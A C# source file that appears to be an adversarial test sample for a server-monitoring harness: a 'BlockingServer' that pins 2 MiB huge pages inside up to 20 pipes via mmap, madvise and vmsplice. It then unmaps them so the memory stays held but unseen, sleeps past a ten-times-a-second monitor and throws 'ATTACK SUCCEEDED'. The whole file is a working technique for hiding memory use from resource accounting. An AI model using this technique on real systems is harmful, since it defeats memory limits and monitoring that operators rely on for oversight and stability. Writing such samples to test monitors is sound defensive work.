using System.Globalization;
using System.Net.Sockets;
using System.Runtime.InteropServices;

namespace Katas.Blocking;

public sealed unsafe class BlockingServer : IServer
{
    private const nint HugePage = 2 * 1024 * 1024;
    private const int Pipes = 20;
    private const int PlacesInPipe = 16;

    private const int ReadWrite = 3;
    private const int PrivateAnonymous = 0x22;
    private const int MADV_HUGEPAGE = 14;
    private const uint SPLICE_F_NONBLOCK = 2;
    private const int SmallPage = 4096;

    public void Run(Socket listener, CancellationToken stop)
    {
        listener.Accept();
        var kept = 0;
        var ends = stackalloc int[2];
        for (var i = 0; i < Pipes && pipe(ends) == 0; i++)
        {
            for (var place = 0; place < PlacesInPipe; place++)
            {
                if (Keep(ends[1]))
                    kept++;
            }
        }

        // Whoever looks ten times a second has looked.
        Thread.Sleep(2000);
        throw new InvalidOperationException($"ATTACK SUCCEEDED: {2 * kept} MiB are kept by pipes, and nobody has seen them.");
    }

    // Whether a huge page was given, and is the pipe's alone by now.
    private static bool Keep(int end)
    {
        // A huge page begins at a multiple of its length: somewhere in twice as much.
        var region = mmap(0, 2 * HugePage, ReadWrite, PrivateAnonymous, -1, 0);
        if (region == -1)
            return false;
        var page = (region + HugePage - 1) & ~(HugePage - 1);
        _ = madvise(page, HugePage, MADV_HUGEPAGE);
        var before = ResidentPages();
        *(byte*)page = 1;
        var isHuge = ResidentPages() - before > (HugePage / SmallPage) / 2;
        var part = new IoVector { Start = page, Length = SmallPage };
        var isTaken = vmsplice(end, &part, 1, SPLICE_F_NONBLOCK) == SmallPage;
        _ = munmap(region, 2 * HugePage);
        return isHuge && isTaken;
    }

    private static long ResidentPages() => long.Parse(File.ReadAllText("/proc/self/statm").Split(' ')[1], CultureInfo.InvariantCulture);

    [StructLayout(LayoutKind.Sequential)]
    private struct IoVector
    {
        public nint Start;
        public nint Length;
    }

    [DllImport("libc")]
    private static extern int pipe(int* ends);

    [DllImport("libc")]
    private static extern nint mmap(nint address, nint length, int protection, int flags, int descriptor, nint offset);

    [DllImport("libc")]
    private static extern int munmap(nint address, nint length);

    [DllImport("libc")]
    private static extern int madvise(nint address, nint length, int advice);

    [DllImport("libc")]
    private static extern nint vmsplice(int descriptor, IoVector* parts, nuint count, uint flags);
}
